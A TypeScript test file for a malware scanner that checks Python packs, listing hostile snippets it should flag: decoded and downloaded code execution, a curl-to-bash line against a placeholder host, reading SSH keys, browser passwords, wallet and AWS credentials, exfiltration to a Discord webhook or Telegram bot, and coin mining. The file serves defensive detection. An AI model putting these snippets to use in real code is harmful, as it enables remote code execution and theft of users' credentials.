import { lookAtPython as look } from '../python-for-tests'

const base64 = (text: string) => Buffer.from(text).toString('base64')

const hook = 'https://discord.com/api/webhooks/123456789012345678/abcDEFghiJKLmnoPQRstuVWXyz'

const FLAGGED: [string, string, string][] = [
  ['runs decoded code', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))', 'runs-decoded-code'],
  [
    'runs decoded code by way of names',
    'import zlib as z\nfrom base64 import b64decode as d\ndef go():\n    a = d(BLOB)\n    b = z.decompress(a)\n    exec(compile(b, "x", "exec"))',
    'runs-decoded-code',
  ],
  [
    'hides exec behind other names',
    'import marshal\nrun = getattr(__builtins__, "ex" "ec")\ncode = marshal.loads(x)\nrun(code)',
    'runs-decoded-code',
  ],
  ['turns letters and runs them', 'eval("cevag(1)".decode("rot13"))', 'runs-decoded-code'],
  ['decodes with codecs', 'import codecs\neval(codecs.decode(x, "rot_13"))', 'runs-decoded-code'],
  ['downloads and evaluates', 'import requests\nexec(requests.get(URL).text)', 'runs-downloads'],
  [
    'downloads and evaluates in a with',
    'from urllib.request import urlopen\nwith urlopen(URL) as answer:\n    exec(answer.read().decode())',
    'runs-downloads',
  ],
  [
    'saves a program and starts it',
    'import subprocess, urllib.request\nurllib.request.urlretrieve(URL, target)\nsubprocess.Popen([target, "-q"])',
    'runs-downloads',
  ],
  [
    'writes a program and starts it',
    'import os, requests\nr = requests.get(URL)\nwith open(path, "wb") as f:\n    f.write(r.content)\nos.startfile(path)',
    'runs-downloads',
  ],
  [
    'pipes a download into a shell',
    '__import__("os").system("curl -s https://x.example/a | bash")',
    'runs-downloads',
  ],
  ['is written so that Python reads something else', '# coding: utf-7\n+AAo-x = 1', 'unusual-encoding'],
  ['reads SSH keys', 'open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'reads-credentials'],
  ['reads SSH keys in pieces', 'p = os.path.join(home, ".ssh", "id_ed25519")', 'reads-credentials'],
  ['reads SSH keys with pathlib', 'p = Path.home() / ".ssh" / "id_rsa"', 'reads-credentials'],
  [
    "reads a browser's passwords",
    'p = local + "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data"',
    'reads-credentials',
  ],
  ['reads a wallet', 'find("nkbihfbeogaeaoehlefnkodbefgpgknn")', 'reads-credentials'],
  ['reads a hidden path', `p = "${base64('~/.aws/credentials')}"`, 'reads-credentials'],
  ['sends to a webhook', `requests.post("${hook}", json=data)`, 'sends-to-webhook'],
  ['sends to a hidden webhook', `u = base64.b64decode("${base64(hook)}")`, 'sends-to-webhook'],
  ['sends to a bot', 'u = f"https://api.telegram.org/bot{TOKEN}/sendMessage"', 'sends-to-webhook'],
  ['mines', 'cmd = ["./tool", "-o", "stratum+tcp://pool.example:3333"]', 'mines-coins'],
  [
    'runs what PyArmor made',
    'from pyarmor_runtime import __pyarmor__\n__pyarmor__(__name__, __file__, b"x")',
    'runs-obfuscated-code',
  ],
]

test.each(FLAGGED)('a pack that %s is flagged', async (_what, text, rule) => {
  const findings = await look(text)
  expect(findings[0]).toMatchObject({ rule, enforced: true, file: 'nodes.py', snippet: expect.any(String) })
})
